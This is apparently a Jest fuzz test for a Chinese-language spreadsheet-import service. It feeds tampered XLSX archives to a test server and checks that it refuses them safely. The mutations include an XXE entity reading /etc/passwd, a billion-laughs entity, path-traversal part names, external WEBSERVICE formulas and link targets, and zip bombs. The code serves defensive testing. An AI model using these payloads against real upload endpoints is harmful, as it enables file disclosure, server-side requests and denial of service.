import { crc32, deflateRawSync, inflateRawSync } from 'node:zlib';
import { SHEET_TEMPLATES, writeTable } from '#spreadsheets';
import { idNumber, TestServer, withStreet } from './fixture.js';
import { Dice } from './fuzz-values.js';

const SEED = Number(process.env['JZ_FUZZ_SEED'] ?? 20211120);
const SECONDS = Number(process.env['JZ_FUZZ_SECONDS'] ?? 20);
const LEAST = 40;
const MEMORY = 900 * 1024 * 1024;
const MARKER = '绝密某某七三一';

jest.setTimeout(SECONDS * 1000 + 300_000);

type Parts = Map<string, Buffer>;
type Kind = keyof typeof SHEET_TEMPLATES;

/** The parts of an archive that we wrote ourselves. */
function partsOf(file: Uint8Array): Parts {
  const zip = Buffer.from(file);
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 5, 6]));
  const parts: Parts = new Map();
  let at = zip.readUInt32LE(end + 16);
  for (let i = zip.readUInt16LE(end + 10); i > 0; i--) {
    const method = zip.readUInt16LE(at + 10);
    const size = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.toString('utf8', at + 46, at + 46 + nameLength);
    const from = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const bytes = zip.subarray(from, from + size);
    parts.set(name, method === 0 ? Buffer.from(bytes) : inflateRawSync(bytes));
    at += 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  return parts;
}

interface Lies {
  /** Size that the archive claims for each part. */
  readonly size?: (real: number) => number;
  readonly crc?: (real: number) => number;
  readonly repeat?: number;
}

/** Packs parts, telling what `lies` says of them. */
function packed(parts: Iterable<readonly [string, Buffer]>, lies: Lies = {}): Buffer {
  const chunks: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  let count = 0;
  for (const [name, bytes] of parts) {
    const data = deflateRawSync(bytes, { level: 9 });
    for (let copy = 0; copy < (lies.repeat ?? 1); copy++) {
      const nameBytes = Buffer.from(copy === 0 ? name : `${name}${copy}`);
      const head = Buffer.alloc(30);
      head.writeUInt32LE(0x04034b50, 0);
      head.writeUInt16LE(20, 4);
      head.writeUInt16LE(0x0800, 6);
      head.writeUInt16LE(8, 8);
      head.writeUInt32LE((lies.crc?.(crc32(bytes)) ?? crc32(bytes)) >>> 0, 14);
      head.writeUInt32LE(data.length, 18);
      head.writeUInt32LE((lies.size?.(bytes.length) ?? bytes.length) >>> 0, 22);
      head.writeUInt16LE(nameBytes.length, 26);
      const central = Buffer.alloc(46);
      central.writeUInt32LE(0x02014b50, 0);
      central.writeUInt16LE(20, 4);
      head.copy(central, 6, 4, 30);
      central.writeUInt32LE(offset, 42);
      chunks.push(head, nameBytes, data);
      directory.push(central, nameBytes);
      offset += 30 + nameBytes.length + data.length;
      count++;
    }
  }
  const size = directory.reduce((sum, part) => sum + part.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count & 0xffff, 8);
  end.writeUInt16LE(count & 0xffff, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...chunks, ...directory, end]);
}

const SHEET = /^xl\/worksheets\/[^/]+\.xml$/;

/** What somebody may do to the text of a part. */
const TAMPER: readonly ((text: string, dice: Dice) => string)[] = [
  (text) => text.replace(/<dimension[^>]*>/, '<dimension ref="A1:XFD1048576"/>'),
  (text) => text.replace('<sheetData>', '<dimension ref="A1:ZZZZZ99999999999"/><sheetData>'),
  (text, dice) => text.replaceAll(/r="([A-Z]+)(\d+)"/g, (all) => (dice.is(0.1) ? 'r="XFD1048576"' : all)),
  (text, dice) =>
    text.replaceAll(/r="([A-Z]+)(\d+)"/g, (all) =>
      dice.is(0.1)
        ? dice.of(['r="A0"', 'r="-1"', 'r="A1:B2"', 'r="AAAAAAA1"', 'r=""', 'r="A99999999999999999999"'])
        : all,
    ),
  (text) =>
    text.replace(
      '</worksheet>',
      '<mergeCells count="2"><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A2:C3"/></mergeCells></worksheet>',
    ),
  (text) =>
    text.replace('</worksheet>', `<mergeCells>${'<mergeCell ref="A2:B3"/>'.repeat(20_000)}</mergeCells></worksheet>`),
  (text) => text.replaceAll(/<c ([^>]*)>.*?<\/c>/gs, '<c $1><f>HYPERLINK("http://10.0.0.1/"&amp;A2)</f><v>1</v></c>'),
  (text) => text.replace(/<c ([^>]*)>.*?<\/c>/s, '<c $1><f>WEBSERVICE("http://10.0.0.1/")</f></c>'),
  (text, dice) =>
    text.replaceAll(/t="(\w+)"/g, (all) =>
      dice.is(0.3) ? `t="${dice.of(['s', 'n', 'b', 'e', 'd', 'str', 'inlineStr', 'x', ''])}"` : all,
    ),
  (text, dice) =>
    text.replaceAll(/<v>([^<]*)<\/v>/g, (all) =>
      dice.is(0.3)
        ? `<v>${dice.of(['-1', '99999999', 'NaN', '1e999', '', '4294967295', '__proto__', '0x10'])}</v>`
        : all,
    ),
  (text, dice) => text.replaceAll(/s="(\d+)"/g, (all) => (dice.is(0.3) ? `s="${dice.of(['-1', '99999', 'x'])}"` : all)),
  (text) =>
    text
      .replace(/<\?xml[^>]*>/, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')
      .replace(/<t[^>]*>/, '$&&a;'),
  (text) =>
    text.replace(
      /<\?xml[^>]*>/,
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;&l;&l;&l;&l;&l;">]>',
    ),
  (text) => text.replace(/<\?xml[^>]*>/, '<?xml version="1.0" encoding="UTF-16"?>'),
  (text) => text.replace(/<t([^>]*)>/, '<t$1>&#0;&#xD800;&#x110000;&amp;nope;'),
  (text) => text.replace(/<t([^>]*)>/, '<t$1><![CDATA['),
  (text) => text.replace(/Target="[^"]*"/g, 'Target="http://10.0.0.1/x.xml" TargetMode="External"'),
  (text) => text.replace(/Target="[^"]*"/g, 'Target="../../../../etc/passwd"'),
  (text) => text.replace(/Target="[^"]*"/, 'Target=""'),
  (text) => text.replace(/r:id="[^"]*"/g, 'r:id="rId999"'),
  (text) => text.replace(/sheetId="\d+"/g, 'sheetId="-5"').replace(/name="[^"]*"/, `name="${'名'.repeat(400)}"`),
  (text) => `${text}${text}`,
  (text, dice) => text.slice(0, dice.below(text.length)),
  (text) => `${'<a>'.repeat(30_000)}${text}`,
  (text) => text.replace('<sheetData>', `<sheetData>${'<row r="1"><c r="A1"><v>1</v></c></row>'.repeat(20_000)}`),
  (text) => text.replace('<sheetData>', `<sheetData><row r="1">${'<c/>'.repeat(50_000)}</row>`),
  (text, dice) => {
    const bytes = Buffer.from(text);
    for (let i = 0; i < 20; i++) bytes[dice.below(bytes.length)] = dice.below(256);
    return bytes.toString('latin1');
  },
];

describe('sheets that somebody has tampered with', () => {
  let server: TestServer;
  const said: string[] = [];
  const originals = new Map<Kind, Uint8Array>();

  beforeAll(async () => {
    server = await TestServer.start((line) => said.push(line));
    await withStreet(server);
    for (const kind of ['people', 'kinship'] as Kind[]) {
      const template = SHEET_TEMPLATES[kind];
      if (template === undefined) continue;
      const values: Record<string, string> = {
        name: `${MARKER}甲`,
        gender: '女',
        birthDate: '1980-05-06',
        idNumber: idNumber('1980-05-06', 2),
        phone: '13900000000',
        address: `${MARKER}路1号`,
        community: 'C01',
        education: '大专',
        membership: '群众',
      };
      const rows = Array.from({ length: 5 }, () => template.columns.map(({ key }) => values[key] ?? null));
      originals.set(
        kind,
        await writeTable({
          sheetName: template.sheetName.zh,
          columns: template.columns.map(({ header }) => ({ header: header.zh })),
          rows,
        }),
      );
    }
  });
  afterAll(() => server.remove());

  /** Uploads, waits, reads the report; what was wrong with the answers, if anything. */
  async function judge(kind: Kind, bytes: Buffer, name = `${kind}.xlsx`): Promise<string | undefined> {
    const sent = await server.upload(`/imports?kind=${kind}`, { name, bytes }, 'gaomin');
    if (sent.status >= 500) return `upload: ${sent.status} ${sent.text.slice(0, 300)}`;
    if (sent.status !== 202) return sent.text.includes(MARKER) ? `echoes ${sent.text.slice(0, 300)}` : undefined;
    await server.deployment.importing.idle();
    const report = await server.get(`/imports/${String(sent.body['importId'])}`, 'gaomin');
    if (report.status !== 200) return `report: ${report.status} ${report.text.slice(0, 300)}`;
    const state = String(report.body['state']);
    if (!['faults', 'ready', 'unchanged', 'failed'].includes(state)) return `is left ${state}`;
    if (state !== 'ready' && state !== 'unchanged' && Number(report.body['faultCount']) === 0)
      return `${state} without a fault`;
    const text = JSON.stringify(report.body['faults']);
    if (/node_modules|\bat \S+ \(|TypeError|RangeError|root:x:/.test(text)) return `shows ${text.slice(0, 400)}`;
    return undefined;
  }

  it(`are refused or read, and nothing else happens (seed ${SEED})`, async () => {
    const before = await server.deployment.store.size('process');
    const memory = process.memoryUsage().rss;
    const dice = new Dice(SEED);
    const found: string[] = [];
    const began = Date.now();
    let sent = 0;
    for (; found.length < 10 && (sent < LEAST || Date.now() - began < SECONDS * 1000); sent++) {
      const kind = dice.of([...originals.keys()]);
      const original = Buffer.from(originals.get(kind) ?? []);
      const parts = partsOf(original);
      const names = [...parts.keys()];
      let bytes: Buffer;
      let what = '';
      if (dice.is(0.2)) {
        bytes = Buffer.from(original);
        const cut = dice.is(0.5);
        if (cut) bytes = bytes.subarray(0, dice.below(bytes.length));
        else for (let i = 0; i < 8; i++) bytes[dice.below(bytes.length)] = dice.below(256);
        what = cut ? 'cut' : 'flipped';
      } else {
        for (let i = 1 + dice.below(2); i > 0; i--) {
          const name = dice.is(0.6) ? (names.find((one) => SHEET.test(one)) ?? '') : dice.of(names);
          const number = dice.below(TAMPER.length);
          const tamper = TAMPER[number];
          if (tamper !== undefined) parts.set(name, Buffer.from(tamper(parts.get(name)?.toString('utf8') ?? '', dice)));
          what += ` ${number}@${name}`;
        }
        if (dice.is(0.1)) parts.delete(dice.of(names));
        if (dice.is(0.1))
          parts.set(
            dice.of(['../evil.xml', '/etc/passwd', 'xl\\worksheets\\a.xml', 'xl/vbaProject.bin', '__proto__']),
            Buffer.from('<a/>'),
          );
        bytes = packed(parts, dice.is(0.1) ? { size: (real) => dice.of([0, 1, real * 2, 0xffffffff]) } : {});
      }
      const wrong = await judge(kind, bytes);
      if (wrong !== undefined) found.push(`${what}: ${wrong}`);
    }
    process.stdout.write(`${sent} tampered sheets\n`);
    expect(found).toEqual([]);
    expect(await server.deployment.store.size('process')).toBe(before);
    expect(process.memoryUsage().rss - memory).toBeLessThan(MEMORY);
  });

  it('that swell when they are unpacked are refused before they do', async () => {
    const memory = process.memoryUsage().rss;
    const parts = partsOf(originals.get('people') ?? new Uint8Array());
    const sheet = [...parts.keys()].find((name) => SHEET.test(name)) ?? '';
    const zeros = Buffer.alloc(400 * 1024 * 1024);
    const bombs: readonly (readonly [string, Buffer])[] = [
      ['one part of 400 MB', packed([...parts, [sheet, zeros]])],
      ['400 MB that claim to be 10 bytes', packed([...parts, ['xl/a.xml', zeros]], { size: () => 10 })],
      ['thirty parts of 20 MB', packed([...parts, ['xl/b.xml', zeros.subarray(0, 20 << 20)]], { repeat: 30 })],
      ['three thousand parts', packed([['xl/c.xml', Buffer.from('<a/>')]], { repeat: 3000 })],
      ['checksums of something else', packed(parts, { crc: (real) => real ^ 1 })],
    ];
    for (const [name, bytes] of bombs) {
      expect(bytes.length).toBeLessThan(30 << 20);
      expect([name, await judge('people', bytes)]).toEqual([name, undefined]);
    }
    // The zeros themselves, and what unpacking may use.
    expect(process.memoryUsage().rss - memory).toBeLessThan(MEMORY + zeros.length);
  });

  it('leave nothing of what they hold in the log of the server', () => {
    expect(said.filter((line) => line.includes(MARKER))).toEqual([]);
    expect(said.filter((line) => (JSON.parse(line) as { level: number }).level >= 50)).toEqual([]);
  });
});
